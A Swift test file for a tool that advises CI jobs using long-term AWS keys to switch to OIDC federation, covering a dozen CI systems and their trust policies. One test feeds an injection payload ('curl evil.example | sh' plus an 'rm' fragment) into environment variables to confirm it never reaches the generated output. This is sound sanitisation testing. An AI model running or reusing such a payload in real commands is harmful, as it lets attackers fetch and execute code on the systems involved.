import Model
import Support
import Testing

@testable import Diagnosing

/// What a CI job with a long-term key is told, for every system.
@Suite struct CIAdviceTests {
    struct Row: Sendable, CustomTestStringConvertible {
        var system: String
        var environment: [String: String]
        /// The issuer as IAM names the provider; nil where no token is signed.
        var issuer: String?
        var audience = ""
        var subjects: [String] = []
        /// What the snippet has to hold.
        var snippet: [String] = []
        var testDescription: String { "\(system): \(environment.keys.sorted())" }
    }

    static let rows = [
        Row(
            system: "GitHub Actions",
            environment: [
                "GITHUB_ACTIONS": "true", "GITHUB_REPOSITORY": "acme/app",
                "GITHUB_REF": "refs/heads/main", "GITHUB_REPOSITORY_ID": "456",
                "GITHUB_REPOSITORY_OWNER_ID": "123", "GITHUB_SERVER_URL": "https://github.com",
            ], issuer: "token.actions.githubusercontent.com", audience: "sts.amazonaws.com",
            subjects: [
                "repo:acme/app:ref:refs/heads/main", "repo:acme@123/app@456:ref:refs/heads/main",
            ],
            snippet: [
                "id-token: write", "role-to-assume: arn:aws:iam::028075177508:role/ROLE",
                "aws-region: eu-central-1",
            ]),
        // A pull request's own subject is not trusted.
        Row(
            system: "GitHub Actions",
            environment: ["GITHUB_ACTIONS": "true", "GITHUB_REF": "refs/pull/7/merge"],
            issuer: "token.actions.githubusercontent.com", audience: "sts.amazonaws.com",
            subjects: ["repo:OWNER/REPOSITORY:ref:refs/heads/BRANCH"]),
        Row(
            system: "GitHub Actions",
            environment: [
                "GITHUB_ACTIONS": "true", "GITHUB_REPOSITORY": "acme/app",
                "GITHUB_SERVER_URL": "https://git.example.com",
            ], issuer: "git.example.com/_services/token", audience: "sts.amazonaws.com",
            subjects: ["repo:acme/app:ref:refs/heads/BRANCH"]),
        Row(
            system: "GitLab CI",
            environment: [
                "GITLAB_CI": "true", "CI_SERVER_URL": "https://gitlab.example.com",
                "CI_PROJECT_PATH": "group/sub/app", "CI_COMMIT_REF_NAME": "main",
            ], issuer: "gitlab.example.com", audience: "https://gitlab.example.com",
            subjects: ["project_path:group/sub/app:ref_type:branch:ref:main"],
            snippet: ["aud: https://gitlab.example.com", "AWS_WEB_IDENTITY_TOKEN_FILE"]),
        Row(
            system: "GitLab CI",
            environment: [
                "GITLAB_CI": "true", "CI_SERVER_URL": "http://gitlab.internal",
                "CI_PROJECT_PATH": "group/app", "CI_COMMIT_TAG": "v1",
                "CI_COMMIT_REF_NAME": "v1",
            ], issuer: "GITLAB_HOST", audience: "https://GITLAB_HOST",
            subjects: ["project_path:group/app:ref_type:tag:ref:v1"]),
        Row(
            system: "Bitbucket Pipelines",
            environment: [
                "BITBUCKET_BUILD_NUMBER": "12", "BITBUCKET_WORKSPACE": "acme",
                "BITBUCKET_REPO_UUID": "{9a8b}", "BITBUCKET_REPO_OWNER_UUID": "{1c2d}",
            ], issuer: "api.bitbucket.org/2.0/workspaces/acme/pipelines-config/identity/oidc",
            audience: "ari:cloud:bitbucket::workspace/1c2d", subjects: ["{9a8b}*:*"],
            snippet: ["oidc: true", "BITBUCKET_STEP_OIDC_TOKEN"]),
        Row(
            system: "CircleCI",
            environment: [
                "CIRCLECI": "true", "CIRCLE_ORGANIZATION_ID": "o-1", "CIRCLE_PROJECT_ID": "p-2",
            ], issuer: "oidc.circleci.com/org/o-1", audience: "o-1",
            subjects: ["org/o-1/project/p-2/user/*"], snippet: ["CIRCLE_OIDC_TOKEN_V2"]),
        Row(
            system: "Azure Pipelines",
            environment: [
                "TF_BUILD": "True", "SYSTEM_COLLECTIONURI": "https://dev.azure.com/acme/",
                "SYSTEM_COLLECTIONID": "6c6f3423", "SYSTEM_TEAMPROJECT": "shop",
            ], issuer: "vstoken.dev.azure.com/6c6f3423", audience: "api://AzureADTokenExchange",
            subjects: ["sc://acme/shop/CONNECTION"], snippet: ["awsCredentials: CONNECTION"]),
        Row(
            system: "Azure Pipelines",
            environment: [
                "TF_BUILD": "True", "SYSTEM_COLLECTIONURI": "https://acme.visualstudio.com/",
                "SYSTEM_TEAMPROJECT": "a name with blanks",
            ], issuer: "vstoken.dev.azure.com/ORGANIZATION_ID",
            audience: "api://AzureADTokenExchange", subjects: ["sc://acme/PROJECT/CONNECTION"]),
        Row(
            system: "Buildkite",
            environment: [
                "BUILDKITE": "true", "BUILDKITE_ORGANIZATION_SLUG": "acme",
                "BUILDKITE_PIPELINE_SLUG": "app", "BUILDKITE_BRANCH": "main",
            ], issuer: "agent.buildkite.com", audience: "sts.amazonaws.com",
            subjects: [
                "organization:acme:pipeline:app:ref:refs/heads/main:commit:*:step:*"
            ], snippet: ["buildkite-agent oidc request-token --audience sts.amazonaws.com"]),
        Row(
            system: "Jenkins",
            environment: [
                "JENKINS_URL": "https://jenkins.example.com/",
                "JOB_URL": "https://jenkins.example.com/job/app/",
            ], issuer: "jenkins.example.com/oidc", audience: "sts.amazonaws.com",
            subjects: ["https://jenkins.example.com/job/app/"], snippet: ["withCredentials"]),
        Row(
            system: "AWS CodeBuild",
            environment: ["CODEBUILD_BUILD_ARN": "arn:aws:codebuild:eu-west-1:1:build/x:1"]),
        Row(system: "Travis CI", environment: ["TRAVIS": "true"]),
        Row(system: "TeamCity", environment: ["TEAMCITY_VERSION": "2025.11"]),
    ]

    private func advise(
        _ environment: [String: String], key: String? = Sample.keyID,
        identity: CallerIdentity? = Sample.identity
    ) -> PipelineAdvice? {
        pipelineAdvice(
            in: environment, accessKeyID: key, identity: identity, region: "eu-central-1")
    }

    @Test(arguments: rows)
    func `each system is told by its own variables`(_ row: Row) throws {
        let advice = try #require(advise(row.environment))
        #expect(advice.system == row.system)
        #expect(advice.sentences.first?.contains(Sample.keyID) == true)
        for words in row.snippet { #expect(advice.snippet?.contains(words) == true, "\(words)") }
        guard let issuer = row.issuer else {
            #expect(advice.trustPolicy == nil)
            #expect(advice.commands.isEmpty)
            #expect(advice.sentences.count > 1)
            return
        }
        let policy = try #require(
            advice.trustPolicy.flatMap { JSONValue(parsing: Array($0.utf8)) })
        let statement = try #require(policy["Statement"]?.elements.first)
        #expect(
            statement["Principal"]?["Federated"]?.text
                == "arn:aws:iam::028075177508:oidc-provider/\(issuer)")
        #expect(statement["Action"]?.text == "sts:AssumeRoleWithWebIdentity")
        let condition = statement["Condition"]
        #expect(condition?["StringEquals"]?["\(issuer):aud"]?.text == row.audience)
        let subject = condition?["StringLike"]?["\(issuer):sub"]
        let subjects = subject.map { $0.text.map { [$0] } ?? $0.elements.compactMap(\.text) }
        #expect(subjects == row.subjects)
        #expect(advice.commands.first?.contains("--url 'https://\(issuer)'") == true)
    }

    @Test func `every system has its row`() {
        #expect(Set(Self.rows.map(\.system)) == Set(CISystem.allCases.map(\.name)))
    }

    @Test(arguments: [
        [:], ["CI": "true"], ["GITHUB_ACTIONS": ""], ["CIRCLECI": "false"],
    ])
    func `outside of CI nothing is said`(_ environment: [String: String]) {
        #expect(advise(environment) == nil)
    }

    @Test(arguments: [Sample.temporaryKeyID, nil, ""])
    func `a job without a long-term key is well`(_ key: String?) {
        #expect(advise(["GITHUB_ACTIONS": "true"], key: key) == nil)
    }

    @Test func `nothing of a hostile variable gets into snippet, policy or command`() throws {
        let bad = "x'; curl evil.example | sh; '\n\"}]"
        var environment = ["GITLAB_CI": "1"]
        for name in ["CI_SERVER_URL", "CI_PROJECT_PATH", "CI_COMMIT_REF_NAME"] {
            environment[name] = bad
        }
        environment["CI_SERVER_URL"] = "https://\(bad)"
        let advice = try #require(
            advise(
                environment,
                identity: CallerIdentity(account: "1'; rm", arn: "arn:aws'x:", userID: "")))
        let all = [advice.snippet, advice.trustPolicy].compactMap(\.self) + advice.commands
        for text in all {
            #expect(!text.contains("evil"))
            #expect(!text.contains("rm"))
        }
        #expect(advice.trustPolicy?.contains("arn:aws:iam::ACCOUNT:oidc-provider/") == true)
    }

    @Test func `the partition of the identity counts`() throws {
        let advice = try #require(
            advise(
                ["BUILDKITE": "true"],
                identity: CallerIdentity(
                    account: "028075177508", arn: "arn:aws-cn:iam::028075177508:user/app",
                    userID: "AIDA")))
        #expect(advice.trustPolicy?.contains("arn:aws-cn:iam::028075177508:") == true)
        #expect(advice.snippet?.contains("arn:aws-cn:iam::028075177508:role/ROLE") == true)
    }
}

extension JSONValue {
    fileprivate var elements: [JSONValue] {
        if case .array(let elements) = self { elements } else { [] }
    }
}
